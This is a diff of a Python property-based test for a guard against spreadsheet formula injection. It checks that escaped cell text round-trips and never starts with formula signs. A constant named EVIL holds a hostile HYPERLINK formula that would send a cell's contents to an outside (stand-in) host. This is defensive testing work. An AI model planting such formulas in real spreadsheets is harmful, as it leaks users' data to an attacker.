@@ -23,9 +23,10 @@ SIGNS = ("=", "+", "-", "@", "\t", "\r")
 EVIL = '=HYPERLINK("https://example.org/?"&A1)'
 
 
-@given(st.text() | st.builds(lambda sign, rest: sign + rest, st.sampled_from((*SIGNS, "'", "'=")), st.text()))
+@given(st.text() | st.builds(lambda sign, rest: sign + rest, st.sampled_from((*SIGNS, "'", "'=", "'-")), st.text()))
 def test_what_is_guarded_comes_back_and_calculates_nothing(text: str) -> None:
-    cell = guarded(text)
+    assert unguarded(guarded(text)) == text and not guarded(text).startswith(SIGNS)
+    cell = guarded(text, bare=True)
     assert unguarded(cell) == text
     if cell.startswith(SIGNS):
         assert len(cell) == 1 or cell[1:].replace(",", ".").replace(".", "", 1).isdecimal(), cell
